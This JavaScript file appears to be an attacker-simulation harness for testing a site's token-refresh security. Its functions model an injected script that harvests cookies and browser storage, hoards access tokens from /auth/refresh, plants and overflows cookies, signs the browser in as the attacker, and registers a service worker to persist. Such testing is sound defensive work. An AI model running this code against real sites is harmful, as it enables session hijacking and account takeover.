// What the script does once it is there; every function gives what it found, and whatever it learns it keeps.
window.attempts = {
    async readEverything() {
        const told = [document.cookie, location.href, window.name, document.documentElement.outerHTML]
        told.push(JSON.stringify(history.state), JSON.stringify({...localStorage}), JSON.stringify({...sessionStorage}))
        if (window.cookieStore) told.push(JSON.stringify(await cookieStore.getAll()))
        for (const {name} of await indexedDB.databases()) told.push(name)
        for (const name of await caches.keys()) {
            for (const request of await (await caches.open(name)).keys()) {
                told.push(request.url, JSON.stringify([...request.headers]))
            }
        }
        told.push(JSON.stringify(performance.getEntries()))
        for (const name of Object.getOwnPropertyNames(window)) {
            try { told.push(String(window[name]), JSON.stringify(window[name])) } catch {}
        }
        const folder = await navigator.storage?.getDirectory?.().catch(() => null)
        if (folder) for await (const name of folder.keys()) told.push(name)
        return told.join('\n')
    },

    /** Turn the key by oneself, in every way that might show more than a page is shown. */
    async refresh() {
        const told = []
        const ask = async init => {
            const answer = await fetch('/auth/refresh', {method: 'POST', ...init})
            told.push(await answer.text(), JSON.stringify([...answer.headers]), answer.headers.get('set-cookie') || '')
            return answer.status
        }
        const json = body => ({headers: {'Content-Type': 'application/json'}, body: JSON.stringify(body)})
        const statuses = [
            await ask({}), await ask(json({transport: 'body'})), await ask(json({refresh_token: null})),
            await ask({headers: {'Keyturn-Client': '1'}}), await ask({credentials: 'omit'}),
        ]
        const asked = new XMLHttpRequest()
        await new Promise(done => {
            asked.onload = asked.onerror = done
            asked.open('POST', '/auth/refresh')
            asked.send()
        })
        told.push(asked.getAllResponseHeaders(), asked.getResponseHeader('set-cookie') || '', asked.responseText)
        keep(told.join('\n'))
        return [...statuses, asked.status]
    },

    /** Make as many access tokens as time allows, for later. */
    async hoard(times) {
        for (let i = 0; i < times; i++) keep(await (await fetch('/auth/refresh', {method: 'POST'})).text())
    },

    /** Look at routes of ours through frames, windows and other ways that bring an answer into a page. */
    async look(paths) {
        const frame = path => new Promise(done => {
            const element = document.createElement('iframe')
            element.onload = () => {
                let told = 'closed to scripts'
                try { told = element.contentDocument.documentElement.outerHTML } catch {}
                keep(told)
                done(told)
            }
            element.src = path
            document.body.append(element)
        })
        for (const path of paths) await frame(path)
        for (const path of paths) keep(await (await fetch(path)).text())
        for (const method of ['TRACE', 'TRACK', 'CONNECT']) {
            await fetch('/auth/refresh', {method}).then(keep, error => keep(String(error)))
        }
    },

    /** Write cookies of these names in every way that a script has. */
    async plant(names, value) {
        for (const name of names) {
            for (const more of ['', '; Path=/', '; Path=/auth', '; Path=/auth/refresh', '; Domain=example.test',
                                '; Domain=app.example.test', '; Max-Age=999; SameSite=Strict', '; Partitioned']) {
                document.cookie = `${name}=${value}; Secure${more}`
                document.cookie = `${name}=${value}${more}`
            }
            document.cookie = `=${name}=${value}; Path=/; Secure`
            if (window.cookieStore) {
                await cookieStore.set({name, value, path: '/'}).catch(() => {})
                await cookieStore.set({name, value, path: '/', partitioned: true}).catch(() => {})
            }
        }
        return document.cookie
    },

    /** Fill the jar until it throws older cookies away. */
    overflow() {
        for (let i = 0; i < 300; i++) document.cookie = `junk${i}=1; Path=/; Secure`
        for (let i = 0; i < 300; i++) document.cookie = `junk${i}=; Path=/; Secure; Max-Age=0`
        return document.cookie
    },

    /** Ask what the user could ask. */
    async act() {
        const {access_token} = await (await fetch('/auth/refresh', {method: 'POST'})).json()
        const headers = {Authorization: `Bearer ${access_token}`, 'Content-Type': 'application/json'}
        const ask = async (method, path, body) => {
            const answer = await fetch(path, {method, headers, body: body && JSON.stringify(body)})
            const text = await answer.text()
            keep(text)
            return [answer.status, text && text.startsWith('{') ? JSON.parse(text).code ?? null : null]
        }
        return {
            me: await ask('GET', '/me'),
            order: await ask('POST', '/orders'),
            sessions: await ask('GET', '/auth/sessions'),
            stepUp: await ask('POST', '/auth/step-up', {username: 'alice', password: 'guessed'}),
            endOthers: await ask('DELETE', '/auth/sessions'),
        }
    },

    /** Sign the browser in as somebody else, the thief. */
    async signInAs(username, password) {
        const body = JSON.stringify({username, password})
        const headers = {'Content-Type': 'application/json'}
        return (await fetch('/auth/login', {method: 'POST', headers, body})).status
    },

    /** Have a worker registered; gives its scope, or what the browser said. */
    async stay(address, options) {
        try {
            const kept = await navigator.serviceWorker.register(address, options)
            await new Promise(done => {
                const worker = kept.installing || kept.waiting || kept.active
                const look = () => ['activated', 'redundant'].includes(worker.state) && done()
                worker.addEventListener('statechange', look)
                look()
            })
            return new URL(kept.scope).pathname
        } catch (error) {
            return error.name
        }
    },
}
